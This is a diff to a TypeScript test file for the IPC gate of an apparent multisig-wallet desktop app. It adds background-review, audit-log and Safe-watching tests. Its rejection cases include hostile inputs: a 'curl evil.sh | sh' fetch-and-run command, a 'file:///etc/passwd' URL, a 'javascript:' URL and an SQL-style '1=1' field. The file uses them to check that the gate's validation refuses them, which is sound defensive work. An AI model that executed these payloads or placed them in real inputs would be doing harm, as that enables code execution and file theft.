@@ -11,7 +11,8 @@ import { openStore, type Store } from '../core/store/openStore.js';
 import { CHANNELS } from '../ipc/channels.js';
 import { contract } from '../ipc/contract.js';
 import { RENDERER_URL } from '../window/rendererProtocol.js';
-import { createHandlers, type ChannelHandlers } from './channelHandlers.js';
+import { createMainHandlers, type ChannelHandlers } from './channelHandlers.js';
+import type { ReviewScheduler } from './reviewScheduler.js';
 import { createIpcGate } from './ipcGate.js';
 
 const safe = getAddress('0x' + '5a'.repeat(20));
@@ -22,6 +23,7 @@ const own = { url: RENDERER_URL, isMainFrame: true };
 let dir: string;
 let store: Store;
 let handlers: ChannelHandlers;
+let backgroundReviews: ReviewScheduler;
 const clipboard: string[] = [];
 const logged: string[] = [];
 let invoke: ReturnType<typeof createIpcGate>;
@@ -32,7 +34,7 @@ beforeAll(() => {
   store.addWatchedSafe({ chainId: 1n, address: safe, serviceUrl: null, rpcUrl: null, label: 'Guardians' });
   store.saveSafeInfo({ chainId: 1n, address: safe, owners, threshold: 2, nonce: 3n, version: '1.3.0' });
   store.saveQueueItems([{ safeTx: tx, safeTxHash: safeTxHashes(tx).safeTxHash, claimedSafeTxHash: safeTxHashes(tx).safeTxHash, source: { kind: 'service', url: 'x' }, confirmations: [{ owner: owners[0]!, signature: '0x' + '01'.repeat(65) }], fetchedAt: 'now' }]);
-  handlers = createHandlers({ store, clipboard: { writeText: (t) => void clipboard.push(t) }, version: '9.9.9', dataDir: dir, openLedger: () => Promise.reject(new GuardianError('DEVICE_NOT_FOUND', 'No Ledger found.')) });
+  ({ handlers, backgroundReviews } = createMainHandlers({ store, clipboard: { writeText: (t) => void clipboard.push(t) }, version: '9.9.9', dataDir: dir, openLedger: () => Promise.reject(new GuardianError('DEVICE_NOT_FOUND', 'No Ledger found.')) }));
   invoke = createIpcGate(handlers, RENDERER_URL, (message) => void logged.push(message));
 });
 afterAll(() => {
@@ -105,6 +107,16 @@ describe('the IPC gate', () => {
       ['tx.hashes', { tx: { ...safeTxToJson(tx), signatures: '0x' } }, 'tx'],
       ['clipboard.writeHash', { text: '0x' + '12'.repeat(20) }, 'text'],
       ['clipboard.writeHash', { text: 'curl evil.sh | sh' }, 'text'],
+      ['safes.watch', { chainId: '1', address: '0x1234', serviceUrl: null, rpcUrl: null, label: null }, 'address'],
+      ['safes.watch', { chainId: '0', address: safe, serviceUrl: null, rpcUrl: null, label: null }, 'chainId'],
+      ['safes.watch', { chainId: 'mainnet', address: safe, serviceUrl: null, rpcUrl: null, label: null }, 'chainId'],
+      ['safes.watch', { chainId: '1', address: safe, serviceUrl: 'file:///etc/passwd', rpcUrl: null, label: null }, 'serviceUrl'],
+      ['safes.watch', { chainId: '1', address: safe, serviceUrl: null, rpcUrl: 'javascript:alert(1)', label: null }, 'rpcUrl'],
+      ['safes.watch', { chainId: '1', address: safe, serviceUrl: null, rpcUrl: null, label: 'a\nb' }, 'label'],
+      ['safes.watch', { chainId: '1', address: safe, serviceUrl: null, rpcUrl: null, label: null, owners: [] }, '(root)'],
+      ['queue.retryReview', { safeTxHash: 'every' }, 'safeTxHash'],
+      ['audit.list', { limit: 0 }, 'limit'],
+      ['audit.list', { kind: 'review', sql: '1=1' }, '(root)'],
     ];
     for (const [channel, payload, field] of bad) {
       const result = await invoke(own, channel, payload);
@@ -139,6 +151,50 @@ describe('the IPC gate', () => {
     expect(await broken(own, 'app.info', {})).toMatchObject({ ok: false, error: { code: 'INTERNAL' } });
     expect(await broken(own, 'queue.hashes', { safeTxHash: '0x' + 'ab'.repeat(32) })).toEqual({ ok: false, error: { code: 'STORE_FAILED', message: 'The store is damaged.' } });
     expect(logged).toEqual(['IPC safes.list failed', 'IPC app.info failed']);
+  });
+
+  it('keeps a failed unasked review beside its row until it is retried', async () => {
+    const hash = safeTxHashes(tx).safeTxHash;
+    expect(await invoke(own, 'queue.retryReview', { safeTxHash: hash })).toEqual({ ok: true, value: { queued: true } });
+    await backgroundReviews.idle();
+    const listed = await invoke(own, 'queue.list', {});
+    // This Safe has no RPC and the transaction no bundle: the row says why it has no verdict, in the review's words.
+    expect(listed).toMatchObject({ ok: true, value: [{ safeTxHash: hash, lastReview: null, background: { state: 'failed', detail: expect.stringContaining('No RPC URL') } }] });
+    expect(await invoke(own, 'queue.retryReview', { safeTxHash: '0x' + 'ab'.repeat(32) })).toMatchObject({ ok: false, error: { code: 'NOT_FOUND' } });
+  });
+
+  it('leaves out of the pending list a transaction whose nonce the Safe has moved past', async () => {
+    store.saveSafeInfo({ chainId: 1n, address: safe, owners, threshold: 2, nonce: 4n, version: '1.3.0' });
+    try {
+      expect(await invoke(own, 'queue.list', {})).toEqual({ ok: true, value: [] });
+      // Still stored (its hashes, its audit), only no longer pending.
+      expect(await invoke(own, 'queue.hashes', { safeTxHash: safeTxHashes(tx).safeTxHash })).toMatchObject({ ok: true });
+    } finally {
+      store.saveSafeInfo({ chainId: 1n, address: safe, owners, threshold: 2, nonce: 3n, version: '1.3.0' });
+    }
+  });
+
+  it('lists the audit log newest first, a review with its verdict and headline', async () => {
+    const hash = safeTxHashes(tx).safeTxHash;
+    store.appendAudit({ kind: 'pull', details: { safe: `1:${safe}`, pulled: [hash], rejected: [] } });
+    store.appendAudit({ kind: 'review', safeTxHash: hash, details: { worst: 'high', headline: 'Upgrades Vault to unverified code', findings: ['X'], block: '0x10', replayed: false } });
+    const listed = await invoke(own, 'audit.list', {});
+    expect(listed).toMatchObject({
+      ok: true,
+      value: [
+        { kind: 'review', safeTxHash: hash, verdict: 'high', summary: 'Upgrades Vault to unverified code (on a fork, block 0x10)' },
+        { kind: 'pull', safeTxHash: null, verdict: null, summary: `1:${safe}: 1 pulled, 0 refused` },
+      ],
+    });
+    expect(await invoke(own, 'audit.list', { limit: 1 })).toMatchObject({ ok: true, value: [{ kind: 'review' }] });
+  });
+
+  it('refuses to watch a Safe whose RPC cannot be asked for its chain id', async () => {
+    const result = await invoke(own, 'safes.watch', { chainId: '1', address: '0x' + '77'.repeat(20), serviceUrl: null, rpcUrl: 'http://127.0.0.1:9', label: 'Nowhere' });
+    expect(result).toMatchObject({ ok: false, error: { code: 'RPC_UNREACHABLE' } });
+    expect(store.getWatchedSafe(1n, '0x' + '77'.repeat(20))).toBeNull();
+    // Without an RPC there is nothing to ask: a files-only Safe is watched as it is.
+    expect(await invoke(own, 'safes.watch', { chainId: '1', address: '0x' + '77'.repeat(20), serviceUrl: null, rpcUrl: null, label: 'Files only' })).toMatchObject({ ok: true, value: { address: getAddress('0x' + '77'.repeat(20)), label: 'Files only', rpcUrl: null } });
   });
 
   it('puts a hash, and only a hash, on the clipboard', async () => {
